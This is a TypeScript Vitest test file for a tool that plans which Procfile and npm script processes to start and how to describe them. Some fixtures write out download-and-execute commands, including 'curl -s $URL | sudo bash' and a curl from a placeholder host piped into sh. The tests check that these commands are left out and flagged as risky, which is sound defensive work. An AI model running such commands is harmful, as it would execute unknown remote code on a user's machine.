import { describe, expect, it } from 'vitest';
import { envFacts, planFacts, presentPlan } from '../../../renderer/present/present-plan';
import type { PlannedProcess } from '../../../shared/model/project';

const planned = (name: string, extra: Partial<PlannedProcess> = {}): PlannedProcess => ({
  name,
  commandLine: `./bin/${name}`,
  shell: false,
  buildLine: null,
  cwd: '.',
  envKeys: [],
  envFiles: [],
  ports: [],
  source: { file: 'Procfile', line: 1 },
  change: null,
  before: null,
  ...extra,
});
const script = (name: string) => planned(name, { source: { file: 'web/package.json', line: 8 } });
const chosen = (plan: PlannedProcess[]): string[] =>
  presentPlan(plan)
    .filter((row) => row.chosen)
    .map((row) => row.planned.name);

describe('what is ticked to be started', () => {
  it.each<[string, PlannedProcess[], string[]]>([
    ['everything a Procfile names', [planned('web'), planned('build')], ['web', 'build']],
    ['of scripts those that serve', [script('dev'), script('build'), script('test'), script('start')], ['dev']],
    ['start where there is no dev', [script('start'), script('lint')], ['start']],
    ['variants of a server script', [script('dev:api'), script('dev:web'), script('deploy')], ['dev:api', 'dev:web']],
    ['the only script, whatever its name', [script('preview')], ['preview']],
    ['nothing that runs what it downloads', [planned('seed', { commandLine: 'curl -s $URL | psql shop' })], []],
  ])('%s', (_, plan, names) => {
    expect(chosen(plan)).toEqual(names);
  });

  it('says why a download piped into a program is left out', () => {
    const [row] = presentPlan([planned('seed', { commandLine: 'curl -s $URL | sudo bash' })]);
    expect(row?.risk).toBe('seed pipes a download into bash, so it is left out. Tick it only if you know what it fetches.');
  });
});

describe('words of a plan', () => {
  it('tells ports, build, shell and folder', () => {
    const [row] = presentPlan([planned('api', { ports: [80, 443], buildLine: 'go build', shell: true, cwd: 'web' })]);
    expect([row?.ports, row?.notes]).toEqual(['ports 80 and 443', ['before each start: go build', 'a shell runs this line', 'in web']]);
  });

  it('shows what a script runs in turn, and looks twice at a download in it', () => {
    const [row] = presentPlan([planned('dev', { commandLine: 'npm run dev', runs: 'curl -s https://x.example/i | sh && vite' })]);
    expect(row?.notes).toEqual(['runs: curl -s https://x.example/i | sh && vite']);
    expect(row?.risk).toContain('pipes a download into sh');
  });

  it.each([
    [9, 6, 'read 9 files in 14 ms, ran nothing · found 6 commands'],
    [1, 1, 'read 1 file in 14 ms, ran nothing · found 1 command'],
    [0, 0, 'read 0 files in 14 ms, ran nothing · found no command'],
  ])('%i files and %i commands', (files, commands, text) => {
    expect(
      planFacts({
        filesRead: Array.from({ length: files }, () => 'x'),
        readMs: 14,
        plan: Array.from({ length: commands }, () => planned('x')),
      }),
    ).toBe(text);
  });

  it.each<[string[], string[], string | null]>([
    [[], [], null],
    [['PORT'], [], 'with 1 variable: PORT. Values stay hidden.'],
    [['A', 'B', 'C', 'D', 'E'], ['.env'], 'with 5 variables: A, B, C and 2 more, from .env. Values stay hidden.'],
    [[], ['.env'], 'with the variables of .env. Values stay hidden.'],
  ])('environment %j from %j', (envKeys, envFiles, text) => {
    expect(envFacts([planned('x', { envKeys, envFiles })])).toBe(text);
  });
});
